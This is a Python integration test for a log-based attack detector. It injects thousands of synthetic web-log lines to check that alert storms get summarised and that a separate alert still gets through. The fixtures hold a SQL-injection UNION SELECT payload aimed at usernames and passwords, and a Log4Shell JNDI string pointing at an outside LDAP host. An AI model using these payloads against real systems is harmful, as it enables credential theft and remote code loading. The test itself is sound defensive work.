"""An attack storm through the real chain: summaries instead of an alert per client, and an
unrelated alert sent during the storm still arrives on its own.

How late that alert may be is a benchmark's question (``bench/bench_storm.py``); this test
checks what a user sees: the storm's lines all processed, a few alerts and a summary naming the
many clients, and the other attack's alert with its own rule and client.
"""

from __future__ import annotations

import time
import uuid

import harness
import pytest
from conftest import LiveChain, require_lab

from lwsyslog import lab

pytestmark = [pytest.mark.integration]

CLIENTS = 3_000
LINES = 6_000
MARKER_CLIENT = "198.51.100.77"


def _attack(n: int, stamp: str, run: str) -> bytes:
    client = f"10.{n % CLIENTS // 250}.{n % 250 + 1}.7"
    path = f"/products.php?id=1%27+UNION+SELECT+username,password+FROM+users--+-&n={n}&run={run}"
    return lab.syslog_line(
        f'{client} - - [{stamp}] "GET {path} HTTP/1.1" 200 1432 "-" "Mozilla/5.0"'
    )


def test_a_storm_is_summarised_and_an_unrelated_alert_still_arrives(
    tmp_path_factory: pytest.TempPathFactory,
    pki: harness.Pki,
    journal: lab.JournalNamespace,
) -> None:
    require_lab()
    work = tmp_path_factory.mktemp("storm")
    run = uuid.uuid4().hex[:8]
    # One time for every line: the storm is one window of the lines' time (10 s) however
    # slowly the machine sends and processes it.
    stamp = time.strftime("%d/%b/%Y:%H:%M:%S +0000", time.gmtime())
    with LiveChain(work, journal, pki) as chain:
        half = LINES // 2
        lab.inject(chain.input_port, [_attack(n, stamp, run) for n in range(half)])
        marker = lab.syslog_line(
            f'{MARKER_CLIENT} - - [{stamp}] "GET /storm-{run} HTTP/1.1" 200 5 "-" '
            '"${jndi:ldap://198.51.100.9:1389/a}"'
        )
        lab.inject(
            chain.input_port, [marker, *(_attack(n, stamp, run) for n in range(half, LINES))]
        )
        (alert,) = chain.wait_alerts(
            "LWSYSLOG_RULE=log4shell-jndi", f"LWSYSLOG_CLIENT_IP={MARKER_CLIENT}", timeout=60
        )
        assert run in str(alert["LWSYSLOG_SAMPLE"])

        # This storm's alerts: the journal is shared with the other tests of the session.
        def storm_alerts() -> list[dict[str, object]]:
            found = chain.alerts("LWSYSLOG_RULE=sqli-union-select")
            return [a for a in found if f"run={run}" in str(a["LWSYSLOG_SAMPLE"])]

        # The storm's window closes (10 s of the lines' time) and its summary goes out.
        def summaries() -> list[str]:
            return [str(a["MESSAGE"]) for a in storm_alerts() if "storm:" in str(a["MESSAGE"])]

        lab.wait_for(lambda: summaries() != [], 60, "the storm's summary")
        assert all("more alerts from" in summary for summary in summaries())
        alerts = storm_alerts()
        # The window's first alerts pass as they are (storm_max_alerts, 20), then, these being
        # critical (answered 200), the allowance for new clients' grave alerts (20 more); the
        # rest become a summary (a further one per pause of the storm after its window's end,
        # when the machine is slow): 3,000 attacking clients are not 3,000 alerts, and a slow
        # machine gets no second quota.
        single = [a for a in alerts if "storm:" not in str(a["MESSAGE"])]
        assert len(single) <= 2 * 20
        assert len(alerts) - len(single) <= 3
